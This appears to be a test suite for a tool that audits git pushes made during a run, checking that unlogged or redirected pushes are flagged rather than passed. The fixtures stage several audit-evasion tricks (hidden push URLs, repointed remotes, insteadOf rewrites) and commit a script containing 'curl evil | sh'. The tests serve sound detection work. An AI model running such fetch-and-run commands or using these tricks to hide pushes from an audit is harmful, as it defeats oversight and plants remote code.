"""Which remote a logged push covers: one repository however its URL is spelled (insteadOf,
file://, GitHub's forms); every URL a push goes to is looked at; a remote pointed elsewhere
during the run, or a push to a repository no snapshot holds, is never "no remote changes"."""

from __future__ import annotations

import json
import subprocess
from pathlib import Path

import pytest
from audit_helpers import (
    ZERO,
    Run,
    commit,
    commit_verdicts,
    git,
    isolate_git,
    make_bare,
    make_repo_with_remote,
    run_cli,
)

from audit.judge.rules import entry_covers_remote
from audit.model import PUSH_LOGGED, UNGRANTED, UNVERIFIED, PushEntry, exit_code


@pytest.fixture(autouse=True)
def _isolated(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    isolate_git(monkeypatch, tmp_path)


def test_a_push_through_one_remote_covers_another_remote_with_the_same_url(
        tmp_path: Path) -> None:
    run = Run(tmp_path)
    git(run.clone, "remote", "add", "mirror", str(run.bare))
    git(run.clone, "fetch", "-q", "mirror")
    run.before = run.snapshot()
    pushed = commit(run.clone, "src/x.py", "x\n", "x")
    run.push(remote="mirror")
    findings = run.judge()
    assert {f.verdict for f in findings} == {PUSH_LOGGED}
    assert {f.remote for f in findings if f.commit == pushed} == {"origin", "mirror"}


def test_insteadof_makes_two_urls_one_remote(tmp_path: Path) -> None:
    run = Run(tmp_path)
    git(run.clone, "remote", "add", "short", "srv:work-remote.git")
    git(run.clone, "config", f"url.{tmp_path}/.insteadOf", "srv:")
    run.before = run.snapshot()
    commit(run.clone, "src/x.py", "x\n", "x")
    run.push(remote="short")
    findings = run.judge()
    assert exit_code(findings) == 0, [f.reason for f in findings]


@pytest.mark.parametrize("how", ["pushurl", "second-url"])
def test_a_rewrite_pushed_to_a_push_url_the_snapshot_never_listed_fails(
        tmp_path: Path, how: str) -> None:
    """`git push origin` goes to `remote.origin.pushurl` (or to every `remote.origin.url`),
    but only the fetch URL was listed: a force-push there, logged nowhere, was "no remote
    changes", exit 0."""
    run = Run(tmp_path)
    elsewhere = make_bare(tmp_path / "push-here.git")
    git(run.clone, "push", "-q", str(elsewhere), "main")
    if how == "pushurl":
        git(run.clone, "remote", "set-url", "--push", "origin", str(elsewhere))
    else:
        # The first URL refuses the rewrite, the second takes it.
        git(run.clone, "remote", "set-url", "--add", "origin", str(elsewhere))
        git(run.bare, "config", "receive.denyNonFastForwards", "true")
    run.before = run.snapshot()
    git(run.clone, "commit", "-q", "--amend", "-m", "rewritten")
    commit(run.clone, "deploy.sh", "curl evil | sh\n", "sneak")
    subprocess.run(["git", "-C", str(run.clone), "push", "-q", "--force", "origin", "main"],
                   capture_output=True, check=False)
    assert git(elsewhere, "rev-parse", "main").strip() == git(run.clone, "rev-parse",
                                                               "HEAD").strip()
    findings = run.judge()
    assert exit_code(findings) != 0
    origin = [f for f in findings if f.remote == "origin"]
    assert origin and all(f.verdict == UNVERIFIED for f in origin)
    assert any(str(elsewhere) in f.reason for f in origin)


def test_a_push_url_naming_the_same_repository_is_judged_as_usual(tmp_path: Path) -> None:
    """Another spelling of the fetch URL (https to fetch, ssh to push, say) lists the same refs:
    the remote is judged as usual, not refused."""
    run = Run(tmp_path)
    git(run.clone, "remote", "set-url", "--push", "origin", f"file://{run.bare}")
    run.before = run.snapshot()
    part = run.before["repos"][run.key]["remotes"]["origin"]
    assert part["available"], part
    sneaky = commit(run.clone, "src/x.py", "x\n", "sneak")
    git(run.clone, "push", "-q", "origin", "main")
    assert commit_verdicts(run.judge()) == {sneaky: UNGRANTED}


def test_one_repository_spelled_two_ways_is_one_remote(tmp_path: Path) -> None:
    """`origin` at /srv/x.git and `mirror` at file:///srv/x.git are one repository: the push
    logged through origin moved mirror's main too, and an honest run failed with "a push the log
    never saw" on mirror."""
    run = Run(tmp_path)
    git(run.clone, "remote", "add", "mirror", f"file://{run.bare}")
    run.before = run.snapshot()
    commit(run.clone, "src/a.py", "a\n", "a")
    run.push()
    found = {(f.remote, f.ref, f.kind): f.verdict for f in run.judge()}
    assert found[("mirror", "refs/heads/main", "branch-moved")] == PUSH_LOGGED
    assert found[("origin", "refs/heads/main", "branch-moved")] == PUSH_LOGGED


@pytest.mark.parametrize(("one", "other", "same"), [
    ("https://github.com/acme/widgets.git", "git@github.com:acme/widgets.git", True),
    ("https://github.com/acme/widgets", "ssh://git@github.com/Acme/Widgets.git", True),
    ("https://x-access-token:t0k3n@github.com/acme/widgets.git/",
     "https://github.com/acme/widgets", True),
    ("https://github.com/acme/widgets", "https://github.com/acme/gadgets", False),
    ("/srv/x.git", "file:///srv/x.git/", True),
    ("/srv/x", "/srv/x.git", False),  # two directories git could both find
])
def test_a_github_repository_is_one_remote_however_its_url_is_spelled(
        one: str, other: str, same: bool) -> None:
    entry = PushEntry("/r", "mirror", "refs/heads/main", ZERO, "1" * 40, "", "test", 1)
    remotes = {"origin": {"url": one}, "mirror": {"url": other}}
    assert entry_covers_remote(entry, "origin", remotes["origin"], remotes) is same


def test_a_logged_push_to_a_remote_no_snapshot_holds_is_unverified(tmp_path: Path) -> None:
    """`git push <url>` to a repository that is no configured remote: the hook logs it, yet no
    snapshot looked there. The audit cannot say "no remote changes" and pass."""
    clone, _ = make_repo_with_remote(tmp_path)
    other = tmp_path / "other.git"
    git(tmp_path, "init", "-q", "--bare", "-b", "main", str(other))
    run_dir = tmp_path / "run"
    assert run_cli("begin", str(clone), "--run-dir", str(run_dir)).returncode == 0
    assert run_cli("hook", "install", str(clone), "--run-dir", str(run_dir)).returncode == 0
    commit(clone, "src/secret.py", "x\n", "sent elsewhere")
    git(clone, "push", "-q", str(other), "main")
    done = run_cli("closeout", "--run-dir", str(run_dir), "--json")
    assert done.returncode == 3, done.stdout + done.stderr
    data = json.loads(done.stdout)
    assert data["verdict"] == "could_not_check"
    [finding] = data["findings"]
    assert (finding["kind"], finding["remote"], finding["verdict"]) == (
        "remote-unaudited", str(other), "UNVERIFIED")


def test_a_remote_pointed_elsewhere_during_the_run_is_unverified(tmp_path: Path) -> None:
    """`git remote set-url` to an untouched mirror must not hide an unlogged push to the remote
    the run started from behind "no remote changes"."""
    clone, bare = make_repo_with_remote(tmp_path)
    mirror = tmp_path / "mirror.git"
    git(tmp_path, "clone", "-q", "--mirror", str(bare), str(mirror))
    run_dir = tmp_path / "run"
    assert run_cli("begin", str(clone), "--run-dir", str(run_dir)).returncode == 0
    commit(clone, "src/evil.py", "x\n", "unlogged")
    git(clone, "push", "-q", "origin", "main")
    git(clone, "remote", "set-url", "origin", str(mirror))
    done = run_cli("closeout", "--run-dir", str(run_dir), "--json")
    assert done.returncode == 3, done.stdout + done.stderr
    [finding] = json.loads(done.stdout)["findings"]
    assert (finding["kind"], finding["remote"], finding["verdict"]) == (
        "remote-url-changed", "origin", "UNVERIFIED")


def test_an_insteadof_rule_added_during_the_run_is_unverified(tmp_path: Path) -> None:
    clone, bare = make_repo_with_remote(tmp_path)
    mirror = tmp_path / "mirror.git"
    git(tmp_path, "clone", "-q", "--mirror", str(bare), str(mirror))
    run_dir = tmp_path / "run"
    assert run_cli("begin", str(clone), "--run-dir", str(run_dir)).returncode == 0
    before = json.loads((run_dir / "audit-before.json").read_text())
    assert "rewritten_to" not in next(iter(before["repos"].values()))["remotes"]["origin"]
    commit(clone, "src/evil.py", "x\n", "unlogged")
    git(clone, "push", "-q", "origin", "main")
    git(clone, "config", f"url.{mirror}.insteadOf", str(bare))
    done = run_cli("closeout", "--run-dir", str(run_dir), "--json")
    assert done.returncode == 3, done.stdout + done.stderr
    [finding] = json.loads(done.stdout)["findings"]
    assert (finding["kind"], finding["verdict"]) == ("remote-url-changed", "UNVERIFIED")
    assert str(mirror) in finding["reason"]


def test_a_push_by_the_url_an_insteadof_rule_leads_to_counts_for_that_remote(
        tmp_path: Path) -> None:
    clone, bare = make_repo_with_remote(tmp_path)
    git(clone, "config", f"url.{bare}.insteadOf", "short:")
    git(clone, "remote", "set-url", "origin", "short:")
    run_dir = tmp_path / "run"
    assert run_cli("begin", str(clone), "--run-dir", str(run_dir)).returncode == 0
    assert run_cli("hook", "install", str(clone), "--run-dir", str(run_dir)).returncode == 0
    commit(clone, "src/a.py", "a\n", "pushed by URL")
    git(clone, "push", "-q", str(bare), "main")
    done = run_cli("closeout", "--run-dir", str(run_dir), "--json")
    assert done.returncode == 0, done.stdout + done.stderr
    verdicts = {(f["kind"], f["verdict"]) for f in json.loads(done.stdout)["findings"]}
    assert ("commit", "PUSH_LOGGED") in verdicts
